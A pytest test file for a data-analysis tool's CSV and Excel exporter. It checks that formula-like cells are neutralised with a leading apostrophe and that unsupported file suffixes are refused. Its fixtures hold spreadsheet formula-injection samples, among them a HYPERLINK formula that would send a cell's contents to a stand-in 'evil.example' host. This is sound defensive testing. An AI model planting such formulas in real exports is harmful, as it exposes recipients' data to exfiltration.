"""Tests of the shared table writer: formulas neutralised, real Excel, suffixes refused."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from typer.testing import CliRunner

from analysis import exports, reports
from analysis.cli import app


def test_formula_like_cells_get_a_text_mark_and_numbers_do_not():
    frame = pd.DataFrame(
        {
            "name": ['=HYPERLINK("http://x")', "+33 1 23", "-cmd", "@SUM(A1)", "\tx", "\rx", "ok"],
            "longitude": ["-1.55", "+2", "1e-3", "-0,5", "", "3", "4"],
            "count": [1, 2, 3, 4, 5, 6, 7],
        }
    )
    safe = exports.neutralise_formulas(frame)
    assert safe["name"].tolist() == [
        "'=HYPERLINK(\"http://x\")", "'+33 1 23", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx", "ok",
    ]  # fmt: skip
    assert safe["longitude"].tolist() == frame["longitude"].tolist()
    assert safe["count"].tolist() == frame["count"].tolist()
    assert frame["name"].iloc[0].startswith("=")  # the input is not changed


def test_write_table_writes_csv_and_real_xlsx(tmp_path):
    frame = pd.DataFrame({"name": ["=1+1", "Pôle"], "code": ["01004", "2A004"]})
    csv_path = exports.write_table(frame, tmp_path / "t.csv")
    assert pd.read_csv(csv_path, dtype=str)["name"].tolist() == ["'=1+1", "Pôle"]
    xlsx_path = exports.write_table(frame, tmp_path / "t.XLSX")
    assert xlsx_path.read_bytes()[:2] == b"PK"
    sheet = pd.read_excel(xlsx_path, dtype=str, engine="calamine")
    assert sheet["code"].tolist() == ["01004", "2A004"] and sheet["name"].iloc[0] == "'=1+1"


@pytest.mark.parametrize("name", ["t.txt", "t.xls", "t"])
def test_write_table_refuses_other_suffixes_and_writes_nothing(tmp_path, name):
    with pytest.raises(exports.ExportFormatError, match=r"\.csv or \.xlsx"):
        exports.write_table(pd.DataFrame({"a": [1]}), tmp_path / name)
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------- issue 15, case 3

FORMULA_NAMES = {
    "evil-link": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "evil-sum": "+1+2",
    "evil-at": "@SUM(A1)",
    "plain": "Pôle -2",
}


def _formula_registry(path: Path) -> Path:
    """A valid registry whose names a spreadsheet would run as formulas (Caen, 14; one row
    known only by its région, 28)."""
    rows = [
        {"initiative_id": key, "name": name, "commune_code": "14118"}
        for key, name in FORMULA_NAMES.items()
    ]
    rows.append({"initiative_id": "evil-unlocated", "name": "-2+3", "reg_code": "28"})
    frame = pd.DataFrame(rows).assign(kind="ptce", wave="w1", source_url="https://example.org")
    frame["lead_structure"] = ["-1 ok", "", "", "", ""]
    frame.to_csv(path, index=False)
    return path


def _names_written(csv_path: Path) -> dict[str, str]:
    table = pd.read_csv(csv_path, dtype=str, keep_default_na=False)
    mine = table[table["initiative_id"].isin(list(FORMULA_NAMES))]
    return dict(zip(mine["initiative_id"], mine["name"], strict=True))


@pytest.mark.integration
@pytest.mark.slow
def test_case3_fiche_tables_neutralise_formulas_from_the_registry(
    tmp_path, backbone, indicators_built, cooperation_built
):
    registry_file = _formula_registry(tmp_path / "formulas.csv")
    out = tmp_path / "fiche"
    result = CliRunner().invoke(
        app,
        ["fiche", "--level", "dep", "--code", "14", "--no-pdf"]
        + ["--registry", str(registry_file), "--out", str(out)],
    )
    assert result.exit_code == 0, result.output
    written = out / "figures" / "initiatives.csv"
    names = _names_written(written)
    assert names == {
        key: ("'" + value if key != "plain" else value) for key, value in FORMULA_NAMES.items()
    }
    table = pd.read_csv(written, keep_default_na=False)
    mine = table[table["initiative_id"] == "evil-link"]
    assert mine["lead_structure"].tolist() == ["'-1 ok"]
    assert pd.api.types.is_float_dtype(table["longitude"])  # numbers stay numbers
    text = written.read_text(encoding="utf-8")
    assert '\n"=' not in text and ",=" not in text and ",+1+2" not in text


@pytest.mark.integration
@pytest.mark.slow
def test_case3_overview_tables_neutralise_formulas_from_the_registry(
    tmp_path, backbone, indicators_built, cooperation_built
):
    registry_file = _formula_registry(tmp_path / "formulas.csv")
    run = reports.ReportRun(
        "overview", "territorial_overview", {"level": "dep", "registry_path": str(registry_file)}
    )
    result = reports.run_batch([run], jobs=1, reports_dir=tmp_path / "rep")
    assert result.records[0]["status"] == "ok", result.records[0].get("error")
    unlocated = pd.read_csv(
        tmp_path / "rep" / "overview" / "figures" / "unlocated_initiatives.csv",
        dtype=str,
        keep_default_na=False,
    )
    assert unlocated.set_index("initiative_id").loc["evil-unlocated", "name"] == "'-2+3"


# ------------------------------------------------------------------- --out of resilience, did

RESILIENCE = ["resilience", "--indicator", "unemployment_rate", "--level", "dep"]
RESILIENCE += ["--shock", "covid_2020", "--no-cooperation"]
DID = ["did", "--indicator", "unemployment_rate", "--level", "ze2020", "--treatment", "ptce"]


@pytest.mark.parametrize("command", [RESILIENCE, DID], ids=["resilience", "did"])
@pytest.mark.parametrize("name", ["r.txt", "r.xls", "r"])
def test_table_commands_refuse_a_suffix_they_cannot_write(tmp_path, command, name):
    out = tmp_path / name
    result = CliRunner().invoke(app, [*command, "--out", str(out)], terminal_width=200)
    assert result.exit_code == 2, result.output  # a usage error, before any work
    assert ".csv or .xlsx" in " ".join(result.output.split())
    assert list(tmp_path.iterdir()) == []


@pytest.mark.integration
def test_resilience_writes_a_real_workbook(tmp_path, indicators_built):
    out = tmp_path / "r.xlsx"
    result = CliRunner().invoke(app, [*RESILIENCE, "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_bytes()[:2] == b"PK"  # a zip container: a real workbook, not CSV text
    sheet = pd.read_excel(out, dtype={"territory_code": str}, engine="calamine")
    assert "14" in set(sheet["territory_code"]) and "2A" in set(sheet["territory_code"])
    assert pd.api.types.is_float_dtype(sheet["rise_vs_nation_pp"])


def test_did_writes_every_table_in_the_format_asked(tmp_path, monkeypatch):
    from analysis import datasets

    overall = pd.DataFrame(
        {"estimator": ["twfe"], "att": [0.1], "ci_low": [-0.2], "ci_high": [0.4]}
    ).assign(pretrend_pvalue=0.5)
    result = SimpleNamespace(
        event_study=pd.DataFrame({"estimator": ["twfe"], "event_time": [0], "att": [0.1]}),
        group_time=pd.DataFrame({"cohort": ["2014-Q1"], "att": [0.1]}),
        overall=overall,
    )
    dropped = pd.DataFrame({"unit": ["0051"], "reason": ["-missing quarters"]})
    monkeypatch.setattr(datasets, "load_initiatives", lambda registry=None: None)
    monkeypatch.setattr(
        datasets, "compute_staggered", lambda *a, **k: (result, pd.DataFrame({"u": [1]}), dropped)
    )
    out = tmp_path / "did.xlsx"
    outcome = CliRunner().invoke(app, [*DID, "--out", str(out)])
    assert outcome.exit_code == 0, outcome.output
    written = sorted(p.name for p in tmp_path.iterdir())
    assert written == ["did.dropped.xlsx", "did.group_time.xlsx", "did.overall.xlsx", "did.xlsx"]
    assert all((tmp_path / name).read_bytes()[:2] == b"PK" for name in written)
    sheet = pd.read_excel(tmp_path / "did.dropped.xlsx", dtype=str, engine="calamine")
    assert sheet["unit"].tolist() == ["0051"] and sheet["reason"].tolist() == ["'-missing quarters"]


@pytest.mark.integration
@pytest.mark.slow
def test_case3_registry_quality_problems_quote_cells_as_text(
    tmp_path, backbone, indicators_built, cooperation_built
):
    """A row the geocoder cannot place is listed in problems.csv with its cell: as text."""
    registry_file = _formula_registry(tmp_path / "formulas.csv")
    frame = pd.read_csv(registry_file, dtype=str)
    plain = frame["initiative_id"] == "plain"
    frame.loc[plain, ["commune_code", "commune_name", "dep_code"]] = ["", "=1+2", "14"]
    frame.to_csv(registry_file, index=False)
    run = reports.ReportRun(
        "quality", "registry_quality", {"level": "dep", "registry_path": str(registry_file)}
    )
    result = reports.run_batch([run], jobs=1, reports_dir=tmp_path / "rep")
    assert result.records[0]["status"] == "ok", result.records[0].get("error")
    problems = pd.read_csv(tmp_path / "rep" / "quality" / "figures" / "problems.csv", dtype=str)
    assert "'=1+2" in problems["value"].tolist(), problems.to_string()
